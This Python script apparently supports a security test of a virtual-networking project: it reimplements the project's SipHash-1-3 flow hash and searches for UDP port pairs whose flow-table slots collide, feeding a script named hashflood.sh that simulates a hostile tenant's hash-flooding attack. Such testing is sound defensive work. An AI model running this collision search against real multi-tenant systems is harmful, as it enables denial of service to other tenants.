#!/usr/bin/env python3
"""flowhash.py — what a hostile tenant who read core/hash.h and core/nft.c
can compute: jk_flow_hash (SipHash-1-3 of the 20-byte flow key, folded to
32 bits) under a key it guesses, and from it UDP port pairs whose NFT home
slots all fall in one small window.  Used by hashflood.sh.

  flowhash.py hash KEY0 KEY1 VNI SRC DST SPORT DPORT     one hash (checked against the C)
  flowhash.py ports KEY0 KEY1 VNI SRC DST N WINDOW MASK  N "sport dport" lines
"""
import ipaddress
import sys

M = (1 << 64) - 1


def rotl(x, b):
    return ((x << b) | (x >> (64 - b))) & M


def sipround(v0, v1, v2, v3):
    v0 = (v0 + v1) & M; v1 = rotl(v1, 13); v1 ^= v0; v0 = rotl(v0, 32)
    v2 = (v2 + v3) & M; v3 = rotl(v3, 16); v3 ^= v2
    v0 = (v0 + v3) & M; v3 = rotl(v3, 21); v3 ^= v0
    v2 = (v2 + v1) & M; v1 = rotl(v1, 17); v1 ^= v2; v2 = rotl(v2, 32)
    return v0, v1, v2, v3


def keyed(words, k0, k1):
    v0, v1 = k0 ^ 0x736f6d6570736575, k1 ^ 0x646f72616e646f6d
    v2, v3 = k0 ^ 0x6c7967656e657261, k1 ^ 0x7465646279746573
    n = len(words)
    last = (n * 4) << 56 & M
    i = 0
    while i + 2 <= n:
        m = words[i] | words[i + 1] << 32
        v3 ^= m
        v0, v1, v2, v3 = sipround(v0, v1, v2, v3)
        v0 ^= m
        i += 2
    if i < n:
        last |= words[i]
    v3 ^= last
    v0, v1, v2, v3 = sipround(v0, v1, v2, v3)
    v0 ^= last
    v2 ^= 0xff
    for _ in range(3):
        v0, v1, v2, v3 = sipround(v0, v1, v2, v3)
    m = v0 ^ v1 ^ v2 ^ v3
    return (m ^ (m >> 32)) & 0xffffffff


def flow_hash(k0, k1, vni, src, dst, sport, dport, proto=17):
    # struct jk_flow_key: vni, src_ip, dst_ip (host order), sport, dport (u16), proto, pad[3]
    return keyed([vni, src, dst, sport | dport << 16, proto], k0, k1)


def ip(s):
    return int(ipaddress.IPv4Address(s))


def main(a):
    if a[0] == "hash":
        print(flow_hash(int(a[1]), int(a[2]), int(a[3]), ip(a[4]), ip(a[5]), int(a[6]), int(a[7])))
    elif a[0] == "ports":
        k0, k1, vni, src, dst = int(a[1]), int(a[2]), int(a[3]), ip(a[4]), ip(a[5])
        n, window, mask = int(a[6]), int(a[7]), int(a[8])
        found = 0
        for sport in range(1024, 65536):
            for dport in range(20000, 20064):
                if flow_hash(k0, k1, vni, src, dst, sport, dport) & mask < window:
                    print(sport, dport)
                    found += 1
                    if found == n:
                        return
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main(sys.argv[1:])
